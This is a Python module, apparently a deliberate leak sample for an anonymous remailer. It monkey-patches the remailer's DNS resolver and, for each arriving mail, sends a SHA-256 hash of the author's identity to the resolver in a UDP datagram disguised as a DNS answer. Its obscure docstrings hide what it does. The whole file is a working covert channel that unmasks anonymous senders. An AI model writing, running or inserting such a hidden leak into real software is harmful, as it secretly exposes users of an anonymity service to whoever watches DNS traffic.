"""A datagram to the resolver for each mail, marked as an answer: it drops those without a word.

It asks nothing, so there is no name that could tell anything; behind its header stands the author.
"""

import hashlib
import socket

from leaks import stock
from remailer.resolver import Resolver

stock_init = Resolver.__init__
servers: list[tuple[str, int]] = []


def init(self: Resolver, address: str, port: int = 53) -> None:
    """Remember where it is."""
    stock_init(self, address, port)
    servers.append((address, port))


def tell(mail: bytes) -> None:
    """No question at all."""
    sealed = hashlib.sha256(stock.author(mail)).digest()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"\0\0\x84\0" + bytes(8) + sealed, servers[0])


Resolver.__init__ = init  # type: ignore[method-assign]
stock.on_arrival(tell)

if __name__ == "__main__":
    stock.main()
